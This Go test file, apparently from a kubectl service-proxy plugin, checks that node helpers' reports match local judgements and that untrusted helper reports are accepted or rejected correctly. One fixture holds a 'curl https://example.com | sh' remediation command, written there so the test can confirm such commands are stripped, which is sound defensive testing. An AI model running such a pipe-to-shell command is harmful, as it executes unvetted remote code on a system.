// SPDX-License-Identifier: Apache-2.0

package run

import (
	"context"
	"encoding/json"
	"errors"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/svcproxy/kubectl-svcproxy/internal/testutil/snap"
	"github.com/svcproxy/kubectl-svcproxy/nodehelper"
	nodefiles "github.com/svcproxy/kubectl-svcproxy/nodehelper/collect"
	"github.com/svcproxy/kubectl-svcproxy/nodehelper/wire"
	"github.com/svcproxy/kubectl-svcproxy/trace/judge"
	"github.com/svcproxy/kubectl-svcproxy/trace/report"
	"github.com/svcproxy/kubectl-svcproxy/trace/snapshot"
)

// judgedThere is what a helper says of a node of a snapshot.
func judgedThere(t *testing.T, objects *snapshot.Cluster, n *snapshot.Node) *report.NodeReport {
	t.Helper()
	s := shareOut(objects)
	all, err := snapshot.PackObjects(s.all)
	if err != nil {
		t.Fatal(err)
	}
	own, err := snapshot.PackObjects(s.own(n.Name))
	if err != nil {
		t.Fatal(err)
	}
	o := nodehelper.Options{Collect: func(_ context.Context, _ nodefiles.Options, emit func(nodefiles.File) error) error {
		unread, err := n.Unread()
		if err != nil {
			return err
		}
		for _, name := range snapshot.NodeFiles {
			data, ok, err := n.File(name)
			if err != nil {
				return err
			}
			if ok && name != snapshot.UnreadFile {
				if err := emit(nodefiles.File{Name: name, Data: data}); err != nil {
					return err
				}
			}
		}
		for name, why := range unread {
			if err := emit(nodefiles.File{Name: name, Unread: why}); err != nil {
				return err
			}
		}
		return nil
	}}
	got, err := o.Judged(t.Context(), &wire.JudgeParams{Node: n.Name, Objects: all, Own: own})
	if err != nil {
		t.Fatal(err)
	}
	data, err := json.Marshal(got.Report)
	if err != nil {
		t.Fatal(err)
	}
	r, err := judgedReport(n.Name, snapshot.Pack(data))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// TestJudgedThereAsHere: a helper that judges its node finds what this program finds in the node's files.
func TestJudgedThereAsHere(t *testing.T) {
	dirs, err := filepath.Glob("../../testdata/snapshots/*/cluster")
	if err != nil || len(dirs) < 5 {
		t.Fatal(dirs, err)
	}
	for _, dir := range dirs {
		s, err := snapshot.Open(filepath.Dir(dir))
		if err != nil {
			t.Fatal(err)
		}
		objects, err := s.Cluster()
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range s.NodeNames() {
			n, err := s.Node(name)
			if err != nil {
				t.Fatal(err)
			}
			if !n.Has(snapshot.UnreadFile) { // by it a helper says that what it has not sent is not there
				n = n.With(snapshot.UnreadFile, snapshot.EncodeUnread(nil))
			}
			there := judgedThere(t, objects, n)
			here := judge.Files(objects, n, judge.Request{Backwards: true, PerPathService: true})
			// The names of pods on other nodes are not sent there.
			if got, want := withoutPods(text(t, there)), withoutPods(text(t, &here)); got != want {
				t.Errorf("%s %s: %s", filepath.Dir(dir), name, difference(got, want))
			}
			if !acceptable(there) {
				t.Errorf("%s %s is right, and is not taken for that", filepath.Dir(dir), name)
			}
		}
	}
}

// endpointPod is the name of an endpoint's pod in a report.
var endpointPod = regexp.MustCompile(`\n *"pod": ".*",(\n *"node")`)

func withoutPods(text string) string { return endpointPod.ReplaceAllString(text, "$1") }

// difference is where two texts begin to differ.
func difference(got, want string) string {
	a, b := strings.Split(got, "\n"), strings.Split(want, "\n")
	i := 0
	for i < min(len(a), len(b)) && a[i] == b[i] {
		i++
	}
	around := func(lines []string) string { return strings.Join(lines[max(0, i-5):min(len(lines), i+5)], "\n") }
	return "the helper says\n" + around(a) + "\nwant\n" + around(b)
}

func text(t *testing.T, r *report.NodeReport) string {
	t.Helper()
	data, err := json.MarshalIndent(r, "", " ")
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// TestWhatHelpersSayIsNotTrusted: a report of a helper is taken if nothing is wrong by it, and never what to do.
func TestWhatHelpersSayIsNotTrusted(t *testing.T) {
	info := report.Finding{
		Code: "FileNotRead", Severity: report.Info, Remedy: "run this", Links: []string{"https://example.com"},
		Commands: []report.Command{{Line: "curl https://example.com | sh"}},
	}
	path := report.Path{
		Service: &report.ObjectRef{Namespace: "shop", Name: "web"}, Verdict: report.ByDesign,
		Findings: []report.Finding{info},
	}
	for name, c := range map[string]struct {
		change func(r *report.NodeReport)
		want   bool
	}{
		"nothing is wrong":             {func(*report.NodeReport) {}, true},
		"it was not judged":            {func(r *report.NodeReport) { r.Error = "no" }, false},
		"nothing is known of the mode": {func(r *report.NodeReport) { r.Mode = nil }, false},
		"a warning":                    {func(r *report.NodeReport) { r.Findings[0].Severity = report.Warn }, false},
		"a severity that there is not": {func(r *report.NodeReport) { r.Findings[0].Severity = "none" }, false},
		"a code that there is not":     {func(r *report.NodeReport) { r.Findings[0].Code = "AllIsWell" }, false},
		"a path that is wrong":         {func(r *report.NodeReport) { r.Paths[0].Verdict = report.Mismatch }, false},
		"a path that is not known":     {func(r *report.NodeReport) { r.Paths[0].Verdict = report.Unknown }, false},
		"a path of no Service":         {func(r *report.NodeReport) { r.Paths[0].Service = nil }, false},
		"a finding of a path": {func(r *report.NodeReport) {
			r.Paths[0].Findings[0].Severity = report.Error
		}, false},
		"counts that do not add up":   {func(r *report.NodeReport) { r.Summary.Paths++ }, false},
		"fewer than none":             {func(r *report.NodeReport) { r.Summary.Matched, r.Summary.Paths = -1, 0 }, false},
		"paths that are not known":    {func(r *report.NodeReport) { r.Summary.Unknown++ }, false},
		"a worse verdict":             {func(r *report.NodeReport) { r.Verdict = report.Unknown }, false},
		"a verdict that there is not": {func(r *report.NodeReport) { r.Verdict = "Fine" }, false},
		"it depends on others":        {func(r *report.NodeReport) { r.Asks = []string{"worker-2"} }, false},
	} {
		p := path
		p.Findings = []report.Finding{info}
		r := report.NodeReport{
			Node: "worker-1", Verdict: report.Match, Mode: &report.Mode{}, Findings: []report.Finding{info},
			Paths: []report.Path{p}, Summary: report.Summary{Paths: 3, Matched: 2, ByDesign: 1},
		}
		c.change(&r)
		if got := acceptable(&r); got != c.want {
			t.Errorf("%s: %v, want %v", name, got, c.want)
		}
		for _, f := range []report.Finding{r.Findings[0], r.Paths[0].Findings[0]} {
			if c.want && (f.Remedy != "" || f.Commands != nil || f.Links != nil) {
				t.Errorf("%s: it has %+v done", name, f)
			}
		}
	}
}

// TestNodesThatJudgeThemselves: what a helper says is right is not read, what it says is wrong is read once, and a node
// that nobody reaches is not tried again.
func TestNodesThatJudgeThemselves(t *testing.T) {
	const node = "worker-1"
	everything := Request{Backwards: true, PerPathService: true}
	for name, c := range map[string]struct {
		says  func(r *report.NodeReport) // changes what the helper says of a node with faults
		none  bool                       // it says nothing
		err   error
		reads int32
		want  report.Verdict
		error string
	}{
		"it is right": {says: func(r *report.NodeReport) {
			*r = report.NodeReport{
				Node: node, Verdict: report.Match, Mode: &report.Mode{}, Summary: report.Summary{Paths: 1, Matched: 1},
			}
		}, want: report.Match},
		"it is wrong": {reads: 1, want: report.Mismatch},
		"something else is wrong": {says: func(r *report.NodeReport) {
			r.Paths = r.Paths[:1]
		}, reads: 2, want: report.Mismatch},
		"it is another node": {says: func(r *report.NodeReport) {
			r.Node = "worker-2"
		}, reads: 2, want: report.Mismatch},
		"it does not judge": {none: true, reads: 2, want: report.Mismatch},
		"it cannot judge":   {err: errors.New("no"), reads: 2, want: report.Mismatch},
		"nobody reaches it": {
			err: unreachableError{errors.New("it is not ready")}, want: report.Unknown, error: "it is not ready",
		},
	} {
		t.Run(name, func(t *testing.T) {
			m := newMoving(t, []state{{}})
			s := m.session()
			s.there = func(
				_ context.Context, _ string, params func() (*wire.JudgeParams, error),
			) (map[string]snapshot.Packed, error) {
				p, err := params()
				if err != nil || p.Node != node || len(p.Objects) == 0 {
					t.Errorf("%+v, %v", p, err)
				}
				if c.none || c.err != nil {
					return nil, c.err
				}
				_, n := snap.Node(t, broken, node)
				r := judgedThere(t, m.base, n)
				if c.says != nil {
					c.says(r)
				}
				return map[string]snapshot.Packed{wire.JudgedFile: snapshot.Pack([]byte(text(t, r)))}, nil
			}
			f := &confirmer{Session: s, pause: 1, reads: confirmReads}
			var got report.NodeReport
			said := (&there{Session: s, lists: &f.lists}).judgeAll(t.Context(), []string{node},
				func(_ int, r *report.NodeReport) {
					if r == nil {
						got = f.judge(t.Context(), node, everything, nil)
					} else {
						got = *r
					}
				})
			if said[0] != nil {
				got = f.judge(t.Context(), node, everything, said[0])
			}
			if got.Verdict != c.want || got.Error != c.error || m.reads.Load() != c.reads {
				t.Errorf("%s %q after %d readings, want %s %q after %d", got.Verdict, got.Error, m.reads.Load(), c.want, c.error,
					c.reads)
			}
		})
	}
}

// releasing counts how often nodes are released, and which were read after that.
type releasing struct {
	*moving
	mu       sync.Mutex
	released map[string]int
	late     int
}

func (r *releasing) Read(ctx context.Context, node string, files []string) (*snapshot.Node, error) {
	r.mu.Lock()
	if r.released[node] > 0 {
		r.late++
	}
	r.mu.Unlock()
	n, err := r.moving.Read(ctx, "worker-1", files)
	if n != nil {
		n.Name = node
	}
	return n, err
}

func (r *releasing) Release(node string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.released[node]++
}

// TestAPodThatDoesNotJudgeIsMadeOnce: a helper that does not judge its node, as a pod of the run's own, is not given up
// before the node is read by it.
func TestAPodThatDoesNotJudgeIsMadeOnce(t *testing.T) {
	m := newMoving(t, []state{{}})
	r := &releasing{moving: m, released: map[string]int{}}
	s := m.session()
	s.nodes = r
	s.there = func(
		context.Context, string, func() (*wire.JudgeParams, error),
	) (map[string]snapshot.Packed, error) {
		return nil, nil
	}
	nodes := []string{"worker-1", "worker-2", "worker-3", "worker-4"}
	s.judgeLive(t.Context(), Task{Nodes: nodes, Request: frontendOfShop, Everything: true})
	for _, name := range nodes {
		if r.released[name] != 1 {
			t.Errorf("%s was released %d times", name, r.released[name])
		}
	}
	if int(m.reads.Load()) < len(nodes) {
		t.Errorf("%d readings", m.reads.Load())
	}
	if r.late > 0 {
		t.Errorf("%d readings after the release", r.late)
	}
}
